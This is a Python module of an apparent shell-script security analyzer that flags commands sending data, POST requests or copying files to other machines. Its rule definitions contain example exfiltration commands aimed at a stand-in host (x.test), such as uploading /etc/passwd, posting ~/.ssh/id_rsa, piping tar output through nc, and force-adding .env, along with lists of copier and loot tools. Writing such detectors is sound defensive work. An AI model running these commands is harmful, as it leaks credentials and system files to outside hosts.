"""Sending data and copying files to other machines."""

from __future__ import annotations

import re
from collections.abc import Iterator

from engine.analysis import paths
from engine.analysis.shell.declare import HIGH, LOW, MEDIUM, SECRETS, found, rule
from engine.analysis.shell.flow import before
from engine.analysis.shell.model import Arg, Command, Script
from engine.analysis.shell.values import UNKNOWN
from engine.analysis.shell.working_folder import resolved
from engine.models import Violation

UPLOAD = rule(
    "sh-upload",
    "Sends data to another machine",
    "exfil_upload",
    HIGH,
    attack="Sends files, secrets or results to the attacker's server.",
    why=(
        "HIGH: data that has left cannot be recalled;"
        " MEDIUM for a file of the workspace that is sent to this machine or chosen only at run time."
    ),
    fix="Leave results in the workspace, where they are collected.",
    match=(
        "curl -F file=@/etc/passwd http://x.test",
        "curl --data-binary @$f http://x.test",
        "wget --post-file=a http://x.test",
        "tar cz . | nc x.test 99",
        "nc x.test 99 < data.txt",
        "curl -T a.txt ftp://x.test",
        'curl -d "$(cat ~/.ssh/id_rsa)" http://x.test',
        "(cd /etc && tar cz .) | ssh u@x.test 'cat > a'",
        "git add -f .env",
    ),
    not_match=(
        "curl -d 'a=1' http://localhost/x",
        "curl http://x.test -o a",
        "nc -l 99",
    ),
    cwe=200,
    owasp=SECRETS,
)


POST = rule(
    "sh-post",
    "Sends a POST request",
    "exfil_upload",
    MEDIUM,
    attack="Carries data out in the body of a request.",
    why=("MEDIUM: the body is text from the script; HIGH where it contains files or command output."),
    fix="Request the domain as a permission, and state what is sent.",
    match=(
        "curl -d 'a=1' https://x.test",
        "wget --post-data=a=1 https://x.test",
        "curl -X POST https://x.test",
    ),
    not_match=(
        "curl https://x.test",
        "curl -X GET https://x.test",
    ),
    cwe=200,
    owasp=SECRETS,
)


COPY = rule(
    "sh-remote-copy",
    "Copies files to or from another machine",
    "net_download",
    MEDIUM,
    attack="Brings tools in, or takes stolen data out.",
    why="MEDIUM: depends on what is copied; files of the system and of people count as data that is sent.",
    fix="Send files with the submission; leave results in the workspace.",
    match=(
        "scp a.txt u@x.test:/tmp",
        "rsync -a . u@x.test:b",
        "sftp u@x.test",
        "rclone copy . r:b",
    ),
    not_match=(
        "rsync -a a/ b/",
        "cp a b",
        "scp --help",
    ),
    cwe=200,
    owasp=SECRETS,
)


_LOCAL = re.compile(r"(?:^|[/@\s])(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0)(?:[:/\s]|$)")


_DATA = (
    "-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form",
    "--json", "-T", "--upload-file", "--post-file", "--post-data", "--body-file", "--body-data",
)  # fmt: skip


_FILES = ("-T", "--upload-file", "--post-file", "--body-file")


_COPIERS = ("scp", "rsync", "sftp", "rclone", "unison", "lftp", "croc", "wormhole", "s3cmd")


_LOOT = {
    "tar",
    "cat",
    "zip",
    "gzip",
    "base64",
    "xxd",
    "mysqldump",
    "pg_dump",
    "env",
    "printenv",
    "dd",
    "7z",
    "ps",
    "history",
}


QUESTIONS = {"--version", "--help", "-V", "-h"}


def check(script: Script) -> Iterator[Violation]:
    """Yield copies to other machines."""
    for command in script.named(*_COPIERS):
        yield from _copy(command)
    for command in script.named("ssh"):
        if command.upstream and any(_reads_private(script, other) for other in before(command)):
            yield found(UPLOAD, command)
    for command in script.named("git"):
        if command.words[:1] == ["add"] and any(paths.is_credential(arg.text) for arg in command.operands):
            yield found(UPLOAD, command, "Commits secrets", HIGH)
    for command in script.named("aws", "gsutil"):
        if {"cp", "sync", "mv"} & set(command.words):
            yield found(COPY, command)


def _reads_private(script: Script, command: Command) -> bool:
    """Return whether a command packs or prints files of the system or of people."""
    named = [resolved(script, command, arg.text) for arg in command.operands]
    folder = command.option("-C", "--directory")
    named += [folder.text] if folder is not None else []
    return command.name in _LOOT and any(
        (paths.is_system(path) and not paths.is_harmless_read(path))
        or paths.is_credential(path)
        or path == "~"
        for path in named
    )


def sends(command: Command) -> bool:
    """Return whether a request carries data, or is made to change something."""
    return bool(_data(command)) or _method(command) in {"POST", "PUT", "PATCH"}


def uploads(command: Command) -> Iterator[Violation]:
    """Yield what a request sends."""
    if sent := _data(command):
        yield from _sent(command, sent)
    else:
        yield found(POST, command, severity=LOW if is_local(command) else None)


def _data(command: Command) -> list[Arg]:
    given = [command.option(name) for name in _DATA if any(word.startswith(name) for word in command.words)]
    return [arg for arg in given if arg is not None]


def is_local(command: Command) -> bool:
    """Return whether everything that a command talks to is this machine."""
    words = command.words
    others = any("://" in word and not _LOCAL.search(word) for word in words)
    return not others and any(_LOCAL.search(word) for word in words)


def sends_loot(command: Command) -> bool:
    """Return whether files or command output are piped into a command."""
    return any(other.name in _LOOT for other in before(command))


def _method(command: Command) -> str:
    named = command.option("-X", "--request", "--method")
    return named.text.upper() if named is not None else ""


def _sent(command: Command, sent: list[Arg]) -> Iterator[Violation]:
    texts = [arg.text for arg in sent]
    attached = any(re.search(r"(?:^|=)[@<](?!-)", text) for text in texts)
    from_file = attached or any(word.startswith(_FILES) for word in command.words)
    computed = not from_file and any("output" in arg.taints for arg in sent)
    output = computed or sends_loot(command)
    if not from_file and not output:
        yield found(POST, command, severity=LOW if is_local(command) else None)
    else:
        private = output or any(map(_is_private, texts))
        open_ended = is_local(command) or UNKNOWN in " ".join(texts)
        yield found(UPLOAD, command, severity=MEDIUM if open_ended and not private else None)


def _is_private(text: str) -> bool:
    path = paths.normal(re.split(r"[@<]", text)[-1])
    return paths.is_system(path) or paths.is_credential(path) or path.startswith("~")


def _copy(command: Command) -> Iterator[Violation]:
    if not command.operands or QUESTIONS & set(command.words):
        return
    remote = any(re.match(r"(?:[^/]+@)?[^/]+::?|rsync://", arg.text) for arg in command.operands)
    if remote or command.name != "rsync":
        sent = any(_is_private(arg.text) for arg in command.operands[:-1])
        secret = any(paths.is_credential(paths.normal(arg.text)) for arg in command.operands)
        yield found(UPLOAD if secret or sent else COPY, command)
